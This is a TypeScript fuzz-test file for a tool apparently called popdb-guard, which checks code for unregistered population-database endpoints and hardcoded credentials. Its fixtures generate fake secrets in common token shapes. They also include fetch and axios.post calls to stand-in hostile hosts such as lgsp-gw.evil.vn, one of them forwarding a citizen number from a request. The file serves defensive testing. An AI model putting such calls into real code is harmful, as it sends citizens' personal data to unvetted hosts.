import * as fs from 'node:fs';
import * as path from 'node:path';
import fc from 'fast-check';
import { main } from 'popdb-guard';
import {
  classifyEndpoint,
  escapeControl,
  credentials,
  isPopulationDbUrl,
  likelySecretRanges,
  longestLine,
  maskCredentialRanges,
  parseConfigFile,
  resolvePolicy,
  splitLines,
  type Finding,
} from '@popdb-guard/core';
import { leaks, tempDir, writeFiles, type Planted } from '../hostile/planted';
import { parseForESLint } from '../../packages/eslint-plugin/src/parser';

/**
 * Issue 14, item 8: generated programs and adversarial strings through the
 * whole CLI (in process: every format, inventory, approve, baseline). Fails
 * on a crash, a stack trace, an exit code other than 0/1, a planted secret
 * (any 5-character piece) in any output or written file, and — in the full
 * run only — time growth above linear.
 *
 * `npm test` runs a fixed-seed slice without any timing; `npm run fuzz`
 * (POPDB_FUZZ=full) runs many more cases with a random seed (printed, and
 * reproducible with POPDB_FUZZ_SEED) and checks time at 2n against n.
 */

const FULL = process.env.POPDB_FUZZ === 'full';
const SEED = process.env.POPDB_FUZZ_SEED ? Number(process.env.POPDB_FUZZ_SEED) : FULL ? Date.now() % 2 ** 31 : 14;
const RUNS = FULL ? Number(process.env.POPDB_FUZZ_RUNS ?? 40) : 6;
if (FULL) console.log(`popdb-guard fuzz: seed ${SEED}, ${RUNS} programs (reproduce with POPDB_FUZZ_SEED=${SEED})`);

const POLICY = 'system:\n  name: Fuzz\npopulationDb:\n  registeredEndpoints:\n    - https://lgsp.example.gov.vn/dancu/v1/\n';
const LOOKUP = "export async function lookup() {\n  return fetch('https://lgsp-gw.evil.vn/dancu/v1/CongDan');\n}\n";
const ALNUM = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789';

const token = (min: number, max: number, chars = ALNUM) => fc.string({ unit: fc.constantFrom(...chars.split('')), minLength: min, maxLength: max });

/** A secret in one of the shapes the rules know, with the code that holds it. */
const secretArb: fc.Arbitrary<Planted> = fc.oneof(
  token(12, 20).map((s) => ({ kind: 'password', secret: `Pw${s}9`, code: [`export const dbPassword = 'Pw${s}9';`] })),
  token(12, 20).map((s) => ({ kind: 'connection string', secret: `Cs${s}7`, code: [`export const url = 'postgres://app:Cs${s}7@db:5432/x';`] })),
  token(24, 32).map((s) => ({ kind: 'Bearer', secret: s, code: [`export const h = { Authorization: 'Bearer ${s}' };`] })),
  token(36, 36).map((s) => ({ kind: 'GitHub token', secret: `ghp_${s}`, code: [`export const gh = 'ghp_${s}';`] })),
  token(16, 16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567').map((s) => ({ kind: 'AWS key', secret: `AKIA${s}`, code: [`export const aws = 'AKIA${s}';`] })),
  token(12, 18).map((s) => ({ kind: 'URL userinfo', secret: `Ui${s}3`, code: [`export const gw = 'https://svc:Ui${s}3@lgsp.example.gov.vn/dancu/v1/x';`] })),
  fc.array(token(64, 64, `${ALNUM}+/`), { minLength: 1, maxLength: 3 }).map((body) => ({
    kind: 'private key',
    secret: body[0],
    code: ['export const key = `-----BEGIN PRIVATE KEY-----', ...body, '-----END PRIVATE KEY-----`;'],
  })),
);

const URL = "'https://lgsp-gw.evil.vn/dancu/v1/x'";
/** Statements: requests, deep nesting, huge literals, adversarial text, garbage. */
const stmtArb: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(URL, "'https:evil.com/dancu/v1/x'", "'//evil.com/dancu/v1/x'", "'https://lgsp.example.gov.vn/dancu/v1/ok'").map((u) => `export const r${Math.abs(hash(u))} = () => fetch(${u});`),
  fc.integer({ min: 1, max: FULL ? 400 : 120 }).map((n) => `export const cb = ${'run(function () { return '.repeat(n)}fetch(${URL})${'; })'.repeat(n)};`),
  fc.integer({ min: 1, max: FULL ? 1500 : 300 }).map((n) => `export const th = fetch(${URL})${'.then((r) => r)'.repeat(n)};`),
  fc.integer({ min: 1, max: FULL ? 4000 : 600 }).map((n) => `export const cc = ${Array.from({ length: n }, (_, i) => `'p${i}'`).join(' + ')};`),
  fc.integer({ min: 1, max: FULL ? 6000 : 800 }).map((n) => `export const pp = ${'('.repeat(n)}1${')'.repeat(n)};`),
  fc.tuple(fc.constantFrom('a://', 'passpass', '%41', '/', 'A', '1', '\\\\'), fc.integer({ min: 1, max: FULL ? 50_000 : 5_000 })).map(([p, n]) => `export const big = ${JSON.stringify(p.repeat(n))};`),
  fc.string({ maxLength: 200 }).map((s) => `export const s = ${JSON.stringify(s)};`),
  fc.string({ maxLength: 80 }),
);

function hash(s: string): number {
  let h = 0;
  for (let i = 0; i < s.length; i++) h = (h * 31 + s.charCodeAt(i)) | 0;
  return h;
}

const programArb = fc.record({
  secrets: fc.array(secretArb, { minLength: 1, maxLength: 4 }),
  statements: fc.array(stmtArb, { minLength: 1, maxLength: 6 }),
  lineBreak: fc.constantFrom('\n', '\r\n', '\r', '\u2028'),
  brokenYaml: fc.boolean(),
});

async function runCli(args: string[], cwd: string): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await main(args, { cwd, isTty: false, stdout: (s) => (stdout += s), stderr: (s) => (stderr += s) });
  return { code, stdout, stderr };
}

describe('fuzz: generated programs through every output (issue 14, item 8)', () => {
  it(`no crash, no stack trace, no planted secret in any output (seed ${SEED}, ${RUNS} programs)`, async () => {
    await fc.assert(
      fc.asyncProperty(programArb, async ({ secrets, statements, lineBreak, brokenYaml }) => {
        const dir = tempDir('fuzz');
        const lines = secrets.flatMap((s, i) => [...s.code, ...(i === 0 ? statements : [])]);
        const yamlSecret = secrets[0].secret;
        writeFiles(dir, {
          'popdb-policy.yaml': POLICY,
          'src/lookup.ts': LOOKUP,
          'src/generated.ts': `${lines.join(lineBreak)}${lineBreak}`,
          'config/app.yaml': `db:\n  password: ${yamlSecret}\n${brokenYaml ? '  bad: [unclosed\n' : ''}`,
        });
        const outputs: Record<string, string> = {};
        for (const args of [
          ['.'],
          ['.', '--format', 'json', '--write-baseline', 'baseline.json'],
          ['.', '--format', 'sarif'],
          ['.', '--format', 'html', '--baseline', 'baseline.json'],
          ['inventory', '.', '--format', 'json'],
          ['approve', '.', '--output', 'approved.json'],
        ]) {
          const r = await runCli(args, dir);
          const name = args.join(' ');
          if (r.code !== 0 && r.code !== 1) throw new Error(`${name}: exit ${r.code}: ${r.stderr}`);
          if (/^\s+at .+:\d+:\d+\)?$/m.test(r.stderr) || r.stderr.includes('internal error:')) throw new Error(`${name}: ${r.stderr}`);
          outputs[name] = r.stdout + r.stderr;
          if (args[0] === '.' && args.includes('json') && !r.stdout.includes('lgsp-gw.evil.vn/dancu/v1/CongDan')) throw new Error('the planted finding of src/lookup.ts is missing');
        }
        for (const f of ['baseline.json', 'approved.json']) outputs[f] = fs.readFileSync(path.join(dir, f), 'utf8');
        const found = leaks(outputs, secrets);
        fs.rmSync(dir, { recursive: true, force: true });
        if (found.length) throw new Error(`planted secrets shown: ${found.join('; ')}`);
      }),
      { seed: SEED, numRuns: RUNS, endOnFailure: true },
    );
  }, 600_000);
});

const MAX_RATIO = 3.5;

const policy = resolvePolicy({ populationDb: { registeredEndpoints: ['https://lgsp.example.gov.vn/dancu/v1/'] } }, { rootDir: '/' });

/** The string routines every file and every report goes through, on adversarial text. */
const ROUTINES: Record<string, (s: string) => unknown> = {
  likelySecretRanges: (s) => likelySecretRanges(s, 'config'),
  maskExcerpt: (s) => maskCredentialRanges({ '/f.ts': splitLines(s) }, [{ ruleId: 'popdb/no-hardcoded-credentials', severity: 'error', message: '', file: '/f.ts', line: 1, column: 1, endLine: 1, endColumn: 5 } as Finding]),
  isPopulationDbUrl: (s) => isPopulationDbUrl(s, policy),
  classifyEndpoint: (s) => classifyEndpoint(s, policy),
  splitWords: (s) => credentials.splitWords(s),
  parseEnv: (s) => parseConfigFile('.env', s),
  parseYaml: (s) => {
    try {
      return parseConfigFile('a.yaml', s);
    } catch {
      return undefined;
    }
  },
  longestLine: (s) => longestLine(s),
  escapeControl: (s) => escapeControl(s),
};

/** Inputs that made a regular expression or a loop super-linear before (issue 14, item 4). */
const GROWTH_INPUTS: Record<string, (n: number) => string> = {
  'a://': (n) => `https://x/${'a://'.repeat(n)}`,
  passpass: (n) => `password = "${'passpass'.repeat(n)}`,
  slashes: (n) => `${'/'.repeat(n)}x`,
  capitals: (n) => `${'A'.repeat(n)}1a`,
  digits: (n) => `${'1'.repeat(n)}a`,
  percent: (n) => `https://evil.com/${'%41'.repeat(n)}`,
  'url userinfo': (n) => `://${':'.repeat(n)}`,
  'env line': (n) => `DB_PASSWORD=${'x'.repeat(n)} #`,
};

describe('fuzz: adversarial strings through every string routine', () => {
  it('never throws on arbitrary text (fixed seed)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2000 }), fc.constantFrom(...Object.keys(GROWTH_INPUTS)), fc.integer({ min: 0, max: 2000 }), (s, name, n) => {
        for (const routine of Object.values(ROUTINES)) {
          routine(s);
          routine(GROWTH_INPUTS[name](n) + s);
        }
      }),
      { seed: SEED, numRuns: FULL ? 2000 : 60 },
    );
  });

  // time growth: only in `npm run fuzz` (never a timed assertion in `npm test`)
  // linear growth doubles the time, quadratic quadruples it: the bound sits between, generous for a loaded machine
  it.runIf(FULL)(`grows linearly: time at 2n over time at n stays below ${MAX_RATIO} for every routine and hostile input`, () => {
    const best = (f: () => void) => {
      let min = Infinity;
      for (let i = 0; i < 7; i++) {
        const t = process.hrtime.bigint();
        f();
        min = Math.min(min, Number(process.hrtime.bigint() - t) / 1e6);
      }
      return min;
    };
    const rows: string[] = [];
    const bad: string[] = [];
    for (const [input, gen] of Object.entries(GROWTH_INPUTS)) {
      for (const [name, routine] of Object.entries(ROUTINES)) {
        // three sizes: a garbage collection or a V8 size threshold can spoil one doubling, a quadratic routine spoils both
        const n = 50_000;
        const [t1, t2, t4] = [n, 2 * n, 4 * n].map((k) => {
          const s = gen(k);
          return best(() => routine(s));
        });
        const r1 = t2 / Math.max(t1, 0.05);
        const r2 = t4 / Math.max(t2, 0.05);
        rows.push(`${input.padEnd(14)} ${name.padEnd(18)} n=${n}: ${t1.toFixed(2)} ms, 2n ${t2.toFixed(2)} ms, 4n ${t4.toFixed(2)} ms, ratios ${r1.toFixed(2)} ${r2.toFixed(2)}`);
        if (t4 > 5 && r1 > MAX_RATIO && r2 > MAX_RATIO) bad.push(rows.at(-1)!);
      }
    }
    console.log(rows.join('\n'));
    expect(bad).toEqual([]);
  }, 600_000);

  // the parser finds comments from the text's slash pairs, one descent from the root each: many statements,
  // one long argument list and many slashes inside strings must each stay linear
  it.runIf(FULL)('the parser finds comments in linear time: many commented statements, a long commented list, URLs in strings', () => {
    // each input with the number of comments it holds
    const comments: Record<string, (n: number) => number> = { statements: (n) => n, 'long list': (n) => n, 'urls in strings': () => 0 };
    const inputs: Record<string, (n: number) => string> = {
      statements: (n) => Array.from({ length: n }, (_, i) => `const a${i} = ${i}; // c${i}`).join('\n'),
      'long list': (n) => `f(${Array.from({ length: n }, (_, i) => `/* c${i} */ ${i}`).join(', ')});`,
      'urls in strings': (n) => Array.from({ length: n }, (_, i) => `u(${JSON.stringify(`https://x.vn/${i}`)}, \`http://y/\${i}//\`, /\\/\\//);`).join('\n'),
    };
    const rows: string[] = [];
    const bad: string[] = [];
    for (const [name, gen] of Object.entries(inputs)) {
      const [t1, t2] = [5_000, 10_000].map((n) => {
        const text = gen(n);
        let min = Infinity;
        for (let i = 0; i < 3; i++) {
          const t = process.hrtime.bigint();
          expect(parseForESLint(text, { filePath: `/fuzz/${name}-${n}.ts` }).ast.comments).toHaveLength(comments[name](n));
          min = Math.min(min, Number(process.hrtime.bigint() - t) / 1e6);
        }
        return min;
      });
      rows.push(`parser ${name}: n=5000 ${t1.toFixed(1)} ms, 2n ${t2.toFixed(1)} ms, ratio ${(t2 / t1).toFixed(2)}`);
      if (t2 > 20 && t2 / t1 > MAX_RATIO) bad.push(rows.at(-1)!);
    }
    console.log(rows.join('\n'));
    expect(bad).toEqual([]);
  }, 120_000);

  it.runIf(FULL)('the whole CLI grows linearly on a one-line JSON, a one-line bundle, a .env of many passwords and a file of many routes', async () => {
    const timeOf = async (files: Record<string, string>) => {
      const dir = tempDir('fuzz-growth');
      writeFiles(dir, { 'popdb-policy.yaml': POLICY, ...files });
      const t = Date.now();
      const r = await runCli(['.', '--format', 'json'], dir);
      expect([0, 1]).toContain(r.code);
      return Date.now() - t;
    };
    const json = (n: number) => JSON.stringify(Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, `https://lgsp-gw.evil.vn/dancu/v1/${i}`])));
    const bundle = (n: number) => `${Array.from({ length: n }, (_, i) => `function a${i}(b){return fetch("https://lgsp-gw.evil.vn/dancu/v1/x"+b)}`).join(';')}\n`;
    // every password line asks for its user name: once a search of the whole file (quadratic: 8,000 lines took 40 s)
    const env = (n: number) => Array.from({ length: n }, (_, i) => `SVC${i}_USER=svc${i}\nSVC${i}_PASSWORD=Xk9${(i * 7919).toString(36)}Qz${i}`).join('\n');
    // one file of unaudited lookup routes: each handler's audit search climbed to the module and walked it (3,000 routes: 45 s)
    const routes = (n: number) =>
      `import { Router } from 'express';\nimport axios from 'axios';\nexport const r = Router();\n${Array.from({ length: n }, (_, i) => `r.get('/tra-cuu-${i}/:so', async (req, res) => {\n  const x = await axios.post('https://lgsp-gw.evil.vn/dancu/v1/CungCapThongTinCongDan', { so: req.params.so });\n  res.json(x.data);\n});`).join('\n')}\n`;
    const rows: string[] = [];
    for (const [name, gen, n] of [
      ['unaudited routes in one file', (k: number) => ({ 'src/routes.ts': routes(k) }), 1_500],
      ['one-line JSON', (k: number) => ({ 'd/u.json': json(k) }), 12_000],
      ['one-line bundle', (k: number) => ({ 'p/bundle.js': bundle(k) }), 15_000],
      ['.env passwords', (k: number) => ({ '.env': env(k) }), 4_000],
    ] as const) {
      await timeOf(gen(n / 4)); // warm-up
      const [a, b] = [gen(n), gen(2 * n)];
      let tn = Infinity;
      let t2n = Infinity;
      for (let i = 0; i < 3; i++) {
        tn = Math.min(tn, await timeOf(a));
        t2n = Math.min(t2n, await timeOf(b));
      }
      rows.push(`${name}: n=${n} ${tn} ms, 2n ${t2n} ms, ratio ${(t2n / tn).toFixed(2)}`);
      expect(t2n / tn, rows.at(-1)).toBeLessThan(MAX_RATIO);
    }
    console.log(rows.join('\n'));
  }, 600_000);
});
